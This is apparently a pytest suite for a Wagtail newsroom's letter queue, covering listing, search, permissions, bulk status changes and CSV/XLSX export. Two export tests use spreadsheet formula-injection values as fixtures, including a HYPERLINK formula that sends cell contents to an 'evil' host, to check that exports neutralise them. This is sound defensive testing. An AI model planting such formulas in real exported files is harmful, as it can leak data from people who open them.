"""The queue: what it lists, exports, and does to many letters at once."""

import csv
from io import BytesIO, StringIO

import pytest
from bs4 import BeautifulSoup
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from tests.desk.conftest import DECIDE, EXPORT, PERSONAL, VIEW
from tests.submissions.letters import add_photo, make_letter
from wagtail_regional_news.desk import viewsets
from wagtail_regional_news.intake.choices import Status
from wagtail_regional_news.intake.records import Letter
from wagtail_regional_news.rubrics.snippets import Rubric

LIST = "news_letters:index"
# Nine of the page's are those of Wagtail's own menu and header.
PAGE_QUERIES, RESULT_QUERIES = 16, 12


def rows_of(client, **query) -> list[list[str]]:
    response = client.get(reverse(LIST), query)
    assert response.status_code == 200
    soup = BeautifulSoup(response.content, "html.parser")
    return [
        [cell.get_text(" ", strip=True) for cell in row.select("td")]
        for row in soup.select("table.listing tbody tr")
    ]


def titles_of(client, **query) -> set[str]:
    soup = BeautifulSoup(client.get(reverse(LIST), query).content, "html.parser")
    return {each.get_text(strip=True) for each in soup.select('[id^="letter_"][id$="_title"]')}


def bulk_url(action: str, query: str) -> str:
    path = reverse("wagtail_bulk_action", args=["wagtail_regional_news", "letter", action])
    return f"{path}?{query}&next={reverse(LIST)}"


def confirm(client, url: str, **fields):
    """Clicks the button of the page that asks for confirmation."""
    soup = BeautifulSoup(client.get(url).content, "html.parser")
    chosen = soup.select_one("input[name=chosen]")
    return client.post(url, {"chosen": chosen["value"] if chosen else "", **fields})


def statuses() -> dict[str, str]:
    return dict(Letter.objects.values_list("title", "status"))


def test_a_row_tells_what_an_editor_chooses_by(client, editor, letter):
    letter.rubrics.add(Rubric.objects.create(name="Transport"))
    add_photo(letter)
    Letter.objects.update(assignee=editor, spam_score=7)
    (row,) = rows_of(client)
    assert row[1:9] == [
        str(letter.pk),
        "A crane on the bridge",
        "news item",
        "Transport",
        "new",
        "0 min",
        "1",
        "7",
    ]
    assert "anna" in row[9]


def test_no_name_or_contact_stands_in_the_queue(client, editor, letter):
    html = client.get(reverse(LIST)).content.decode()
    assert "petr@example.org" not in html
    assert "Иванов" not in html


def test_the_queue_shows_what_waits_unless_another_status_is_asked_for(client, editor):
    for status in Status.values:
        make_letter(title=status, status=status)
    assert titles_of(client) == {"new", "in_work"}
    assert titles_of(client, status="spam") == {"spam"}
    assert titles_of(client, status="all") == set(Status.values)
    assert titles_of(client, status="nonsense") == {"new", "in_work"}


def test_the_queue_is_searched_by_words_and_by_persons_only_with_the_permission(
    client, editor, hire, letter
):
    make_letter(title="Другое", body="Мост", sender_name="", email="")
    assert titles_of(client, q="crane") == {"A crane on the bridge"}
    assert titles_of(client, q="мост") == {"Другое"}
    assert titles_of(client, q="petr@example.org") == set()
    client.force_login(hire(VIEW, PERSONAL, name="boris"))
    assert titles_of(client, q="petr@example.org") == {"A crane on the bridge"}


@pytest.mark.parametrize(
    ("name", "most"), [(LIST, PAGE_QUERIES), ("news_letters:index_results", RESULT_QUERIES)]
)
@pytest.mark.parametrize("query", [{}, {"q": "crane"}, {"status": "all"}])
def test_the_queue_costs_the_same_however_many_letters(client, editor, query, name, most):
    def count() -> int:
        client.get(reverse(name), query)
        with CaptureQueriesContext(
            connection,
        ) as queries:
            client.get(reverse(name), query)
        return len(queries)

    add_photo(make_letter())
    few = count()
    for number in range(12):
        letter = make_letter(assignee=editor)
        letter.rubrics.add(Rubric.objects.create(name=f"Rubric {number}"))
        add_photo(letter)
    assert count() == few <= most


def test_whoever_may_only_view_ticks_no_boxes_and_exports_nothing(client, hire, letter):
    client.force_login(hire(VIEW))
    html = client.get(reverse(LIST)).content.decode()
    assert "data-bulk-action-checkbox" not in html
    assert "export=csv" not in html
    assert client.get(reverse(LIST), {"export": "csv"}).status_code == 302


def test_the_menu_counts_new_letters_for_whoever_may_view_them(client, hire, letter):
    home = reverse("wagtailadmin_home")
    client.force_login(hire(VIEW))
    assert "letters (1)" in client.get(home).content.decode()
    client.force_login(hire(name="boris"))
    html = client.get(home).content.decode()
    assert "letters (" not in html
    assert letter.title not in html


def exported(client, kind: str = "csv", **query) -> list[list[str]]:
    response = client.get(reverse(LIST), {"export": kind, **query})
    assert response.status_code == 200
    assert "no-store" in response.headers["Cache-Control"]
    data = b"".join(response.streaming_content)
    if kind == "csv":
        assert data.startswith("\ufeff".encode())
        return list(csv.reader(StringIO(data.decode("utf-8-sig"))))
    sheet = load_workbook(BytesIO(data)).active
    return [["" if cell is None else str(cell) for cell in row] for row in sheet.values]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_export_runs_no_formulas_and_survives_any_text(client, hire, kind):
    client.force_login(hire(VIEW, EXPORT))
    make_letter(title='=HYPERLINK("http://evil")', body="a\x01\x0b😀" + "x" * 20_000)
    make_letter(title="+7", body=" @SUM(A1)")
    make_letter(title="\t-1", body="plain - text")
    heads, *rows = exported(client, kind)
    title, body = heads.index("Title"), heads.index("Text")
    # A tab begins a cell of its own where somebody parts a CSV by tabs.
    first = {"csv": "'\t'-1", "xlsx": "'\t-1"}[kind]
    assert [row[title] for row in rows] == [first, "'+7", '\'=HYPERLINK("http://evil")']
    assert rows[0][body] == "plain - text"
    assert rows[1][body] == "' @SUM(A1)"
    assert rows[2][body].startswith("a😀xx")


def test_an_export_runs_no_formulas_in_a_program_that_parts_it_otherwise(client, hire):
    client.force_login(hire(VIEW, EXPORT))
    make_letter(title='Мост;=HYPERLINK("http://evil/?"&A1;"x")', body="It\n=1+1\n\t@SUM(A1)")
    response = client.get(reverse(LIST), {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    for delimiter in (",", ";", "\t"):
        read = csv.reader(StringIO(text, newline=""), delimiter=delimiter)
        cells = [cell.lstrip(' \t"') for row in read for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
        assert any("HYPERLINK" in cell for cell in cells)


def test_persons_are_exported_only_with_the_permission_and_each_export_is_logged(
    client, hire, letter
):
    client.force_login(hire(VIEW, EXPORT))
    assert "E-mail" not in exported(client)[0]
    anna = hire(VIEW, EXPORT, PERSONAL, name="boris")
    client.force_login(anna)
    heads, row = exported(client, q="crane")
    assert row[heads.index("E-mail")] == "petr@example.org"
    assert row[heads.index("Phone")] == "'+7 910 123-45-67"
    entries = ModelLogEntry.objects.filter(action="news.letter.export").order_by("pk")
    assert [entry.data for entry in entries] == [
        {"count": 1, "personal": False},
        {"count": 1, "personal": True},
    ]
    assert entries[1].user == anna


def test_ticked_letters_go_to_the_spam(client, editor):
    first, _second = make_letter(title="First"), make_letter(title="Second")
    assert confirm(client, bulk_url("spam", f"id={first.pk}")).status_code == 302
    assert statuses() == {"First": "spam", "Second": "new"}


def test_all_means_what_the_filters_show(client, editor):
    make_letter(title="Crane", body="")
    make_letter(title="Ferry", body="")
    make_letter(title="Crane of old", status=Status.REJECTED)
    page = client.get(bulk_url("spam", "id=all&q=crane")).content.decode()
    assert "1 letter<" in page
    confirm(client, bulk_url("spam", "id=all&q=crane"))
    assert statuses() == {"Crane": "spam", "Ferry": "new", "Crane of old": "rejected"}


def test_filters_that_make_no_sense_choose_nothing(client, editor, letter):
    response = client.get(bulk_url("spam", "id=all&status=nonsense"))
    assert 'name="chosen"' not in response.content.decode()


def test_nothing_is_done_where_other_letters_would_be_meant(client, editor):
    make_letter(title="Crane")
    url = bulk_url("spam", "id=all")
    soup = BeautifulSoup(client.get(url).content, "html.parser")
    chosen = soup.select_one("input[name=chosen]")["value"]
    make_letter(title="Late")
    response = client.post(url, {"chosen": chosen})
    assert "other letters by now" in response.content.decode()
    assert "2 letters" in response.content.decode()
    assert statuses() == {"Crane": "new", "Late": "new"}
    assert client.post(url, {}).status_code == 200
    assert set(statuses().values()) == {"new"}


def test_too_many_letters_at_once_are_refused(client, editor, monkeypatch):
    monkeypatch.setattr(viewsets, "MOST_AT_ONCE", 1)
    make_letter(), make_letter()
    response = client.get(bulk_url("spam", "id=all"))
    assert "narrow the filters" in response.content.decode()
    confirm(client, bulk_url("spam", "id=all"))
    assert set(Letter.objects.values_list("status", flat=True)) == {"new"}


def test_letters_whose_status_does_not_allow_it_stay(client, editor):
    ids = "&".join(f"id={make_letter(title=status, status=status).pk}" for status in Status.values)
    response = client.get(bulk_url("reject", ids))
    assert "2 letters" in response.content.decode()
    assert "4 other letters stay" in response.content.decode()
    confirm(client, bulk_url("reject", ids), reason="Old")
    assert statuses()["new"] == statuses()["in_work"] == "rejected"
    assert statuses()["spam"] == "spam"


def test_a_rejection_of_many_needs_a_reason(client, editor, letter):
    assert confirm(client, bulk_url("reject", f"id={letter.pk}")).status_code == 200
    assert statuses() == {letter.title: "new"}


def test_many_letters_are_assigned_and_come_back(client, editor, hire, letter):
    boris, clerk = hire(VIEW, DECIDE, name="boris"), hire(VIEW, name="clerk")
    confirm(client, bulk_url("take", f"id={letter.pk}"))
    assert Letter.objects.get().assignee == editor
    confirm(client, bulk_url("assign", f"id={letter.pk}"), assignee=clerk.pk)
    assert Letter.objects.get().assignee == editor
    confirm(client, bulk_url("assign", f"id={letter.pk}"), assignee=boris.pk)
    assert Letter.objects.get().assignee == boris
    confirm(client, bulk_url("spam", f"id={letter.pk}"))
    confirm(client, bulk_url("restore", "id=all&status=spam"))
    assert statuses() == {letter.title: "new"}


def test_where_a_colleague_is_faster_nothing_is_changed(client, editor, letter, monkeypatch):
    def decide_first(action, letters, data):
        Letter.objects.update(status=Status.REJECTED, status_changed_by=editor)
        real(action, letters, data)

    real = viewsets.SpamAction.change
    monkeypatch.setattr(viewsets.SpamAction, "change", decide_first)
    response = confirm(client, bulk_url("spam", f"id={letter.pk}"))
    page = client.get(response.url).content.decode()
    assert "Nothing was changed." in page


@pytest.mark.parametrize("action", ["spam", "reject", "take", "assign", "restore"])
def test_only_deciders_do_anything_to_many(client, hire, letter, action):
    url = bulk_url(action, f"id={letter.pk}")
    assert client.get(url).status_code == 302
    client.force_login(hire(VIEW))
    response = client.get(url)
    assert response.status_code == 302
    assert client.post(url, {"chosen": "x"}).status_code == 302
    assert statuses() == {letter.title: "new"}
